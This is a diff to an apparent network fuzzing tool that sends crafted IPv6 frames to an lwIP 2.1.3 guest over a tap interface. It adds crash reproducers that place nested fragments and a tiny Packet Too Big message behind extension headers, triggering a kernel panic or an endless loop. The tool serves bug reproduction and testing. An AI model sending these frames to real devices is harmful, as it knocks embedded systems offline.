@@ -48,9 +48,11 @@ entry for the host for ARP_MAXAGE = 5 minutes, which is ARP working as designed,
 
 Known bugs: `crafted --name NAME` sends a minimal deterministic reproducer of a bug the generator found
 (nested-frag6: lwIP 2.1.3 assertion -> kernel panic; tiny-pmtu6: lwIP 2.1.3 endless loop; spoofed-syns: TCP
-locked out for 20 s; see the functions crafted_*). `send --exclude-known NAME,...` keeps those constructs out of the mutated frames (Generator.defuse_ipv6),
-so the rest of the space is still covered while a bug is open; `--no-routers` keeps Router Advertisements from
-leaving lasting (bounded) router state behind, which a before/after memory comparison would otherwise see.
+locked out for 20 s; the -dstopts / -deep / -8ext variants put the same constructs behind extension headers; see
+the functions crafted_*). `send --exclude-known NAME,...` keeps the two lwIP constructs out of the mutated frames
+(Generator.defuse_ipv6, behind any extension headers), so the rest of the space is still covered while a bug is
+open; `--no-routers` keeps Router Advertisements from leaving lasting (bounded) router state behind, which a
+before/after memory comparison would otherwise see.
 
 `send` prints one JSON object on stdout: frames per category, sent, refused by the host kernel per errno
 (EMSGSIZE, EINVAL, ENOBUFS), the tap's tx_packets / tx_dropped growth, bytes, seconds, and the frame-size range.
@@ -860,6 +862,44 @@ def cmd_runts(a):
     return 0
 
 
+def ipv6_frame(gm, hm, nh, payload):
+    """Host link-local -> guest link-local, next header nh, payload as given (no checksum work)."""
+    return gm + hm + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(payload), nh, 64) + link_local(hm) + \
+        link_local(gm) + payload
+
+
+def crafted_nested_frag6_dstopts(gm, hm):
+    """nested-frag6 with a destination-options header between the two fragment headers: the fragments' own
+    fragment header says next header 60 (destination options), and the reassembled payload is a destination-
+    options header (next header 44) followed by the inner fragment header. lwIP's second ip6_reass() runs with
+    the same stale ip6_current_header() as in nested-frag6."""
+    dstopts = bytes([44, 0, 1, 4, 0, 0, 0, 0])  # next header: fragment; PadN
+    inner = dstopts + struct.pack("!BBHI", 17, 0, (1 << 3) | 1, 99) + b"A" * 8  # + fragment (offset 8, M=1)
+
+    def frag(off, m, data):
+        return ipv6_frame(gm, hm, 44, struct.pack("!BBHI", 60, 0, (off // 8) << 3 | m, 0x4321) + data)
+
+    filler = gm + hm + b"\x88\xb5" + bytes(46)
+    return [frag(0, 1, inner[:16])] + [filler] * 60 + [frag(16, 0, inner[16:])]
+
+
+def crafted_tiny_pmtu6_deep(gm, hm, depth=9):
+    """tiny-pmtu6 with the Packet Too Big behind `depth` destination-options headers (lwIP walks any number)."""
+    echo = lambda seq: struct.pack("!BBHHH", 128, 0, 0, 0x7777, seq) + bytes(range(56))
+    inner = struct.pack("!IHBB", 6 << 28, 64, 58, 64) + link_local(gm) + link_local(hm) + bytes(8)
+    icmp = bytearray(struct.pack("!BBHI", 2, 0, 0, 48) + inner)
+    pseudo = link_local(hm) + link_local(gm) + struct.pack("!IxxxB", len(icmp), 58)
+    icmp[2:4] = csum(pseudo + bytes(icmp))
+    chain = b"".join(bytes([60 if i + 1 < depth else 58, 0, 1, 4, 0, 0, 0, 0]) for i in range(depth))
+    return [icmp6_frame(gm, hm, echo(1)), ipv6_frame(gm, hm, 60, chain + bytes(icmp)), icmp6_frame(gm, hm, echo(2))]
+
+
+def crafted_tiny_pmtu6_8ext(gm, hm):
+    """tiny-pmtu6 behind exactly 8 destination-options headers: as many as the netif's guard walks
+    (IP6_EXT_MAX), so the header after them is the one it must still look at."""
+    return crafted_tiny_pmtu6_deep(gm, hm, depth=8)
+
+
 def crafted_nested_frag6(gm, hm):
     """lwIP 2.1.3 crash: an IPv6 datagram in two fragments whose reassembled payload starts with another fragment
     header. ip6_input() continues after ip6_reass() with a new local ip6hdr but leaves ip_data.current_ip6_header
@@ -914,7 +954,10 @@ def crafted_spoofed_syns(gm, hm, guest_ip="192.168.77.2", count=16):
     return out
 
 
+EXCLUDABLE = ("nested-frag6", "tiny-pmtu6")  # what Generator.defuse_ipv6 can keep out (with any variant)
 CRAFTED = {"nested-frag6": crafted_nested_frag6, "tiny-pmtu6": crafted_tiny_pmtu6,
+           "nested-frag6-dstopts": crafted_nested_frag6_dstopts, "tiny-pmtu6-deep": crafted_tiny_pmtu6_deep,
+           "tiny-pmtu6-8ext": crafted_tiny_pmtu6_8ext,
            "spoofed-syns": crafted_spoofed_syns}
 
 
@@ -955,8 +998,8 @@ def main(argv=None):
     common.add_argument("--no-routers", action="store_true",
                         help="Router Advertisements carry router lifetime 0 (no lasting router state in the guest)")
     common.add_argument("--exclude-known", metavar="NAME,...",
-                        help="keep these known crashes out of the frames (names as for `crafted`: nested-frag6, "
-                             "tiny-pmtu6), so the rest of the generator's space can still be tested")
+                        help="keep these known crashes out of the frames (nested-frag6, tiny-pmtu6: also their "
+                             "variants behind extension headers), so the rest of the space can still be tested")
     ps = sub.add_parser("send", parents=[common], help="generate and send COUNT frames out of IFACE")
     ps.add_argument("--iface", default="tap0")
     ps.add_argument("--host-mac", type=parse_mac, help="source MAC (default: the interface's own)")
@@ -978,8 +1021,8 @@ def main(argv=None):
     a = p.parse_args(argv)
     if getattr(a, "only", None) and not set(a.only.split(",")) <= set(CATEGORIES):
         p.error(f"--only: categories are {', '.join(CATEGORIES)}")
-    if getattr(a, "exclude_known", None) and not set(a.exclude_known.split(",")) <= set(CRAFTED):
-        p.error(f"--exclude-known: names are {', '.join(sorted(CRAFTED))}")
+    if getattr(a, "exclude_known", None) and not set(a.exclude_known.split(",")) <= set(EXCLUDABLE):
+        p.error(f"--exclude-known: names are {', '.join(EXCLUDABLE)}")
     return {"send": cmd_send, "describe": cmd_describe, "runts": cmd_runts, "crafted": cmd_crafted}[a.mode](a)
 
 
